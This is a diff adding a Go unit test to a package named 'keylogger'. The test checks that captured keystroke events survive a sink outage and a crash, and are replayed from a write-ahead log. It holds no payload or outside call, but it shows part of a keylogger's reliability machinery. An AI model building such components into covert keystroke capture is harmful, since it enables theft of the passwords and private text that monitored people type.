@@ -0,0 +1,85 @@
+package keylogger
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+	"time"
+)
+
+/*
+	memorySink keeps what it is written, or fails with err while it is set.
+*/
+type memorySink struct {
+	events []Event
+	writes int
+	err    error
+	closed bool
+}
+
+func (s *memorySink) Write(events []Event) error {
+	s.writes++
+	if s.err != nil {
+		return s.err
+	}
+	s.events = append(s.events, events...)
+	return nil
+}
+
+func (s *memorySink) Close() error {
+	s.closed = true
+	return nil
+}
+
+/*
+	Events a sink rejected survive a restart and are replayed into the
+	next sink; a record torn by a crash while it was appended is dropped.
+*/
+func TestWALReplaysAfterRestart(t *testing.T) {
+	name := filepath.Join(t.TempDir(), "events.wal")
+	down := &memorySink{err: errors.New("offline")}
+	w, err := OpenWAL(name, down)
+	if err != nil {
+		t.Fatal(err)
+	}
+	events := []Event{
+		KeyEvent{VkCode: 'A', Down: true, Text: "a", Time: time.Unix(1, 0).UTC()},
+		KeyEvent{VkCode: 'A', Time: time.Unix(2, 0).UTC()},
+		KeyEvent{VkCode: 'B', Down: true, Text: "b", Time: time.Unix(3, 0).UTC()},
+	}
+	for _, e := range events {
+		if err := w.Write([]Event{e}); err == nil {
+			t.Fatal("Write succeeded with the sink down")
+		}
+	}
+	if w.Pending() != len(events) {
+		t.Fatalf("%d events pending, want %d", w.Pending(), len(events))
+	}
+	w.Close()
+
+	// The last record loses its tail, as in a power loss while appending.
+	st, err := os.Stat(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Truncate(name, st.Size()-3); err != nil {
+		t.Fatal(err)
+	}
+	up := &memorySink{}
+	w, err = OpenWAL(name, up)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer w.Close()
+	if !reflect.DeepEqual(up.events, events[:2]) {
+		t.Errorf("replayed %v, want %v", up.events, events[:2])
+	}
+	if w.Pending() != 0 {
+		t.Errorf("%d events pending after the replay, want none", w.Pending())
+	}
+	if st, err := os.Stat(name); err != nil || st.Size() != 0 {
+		t.Errorf("log after the replay: %v, %v; want it empty", st, err)
+	}
+}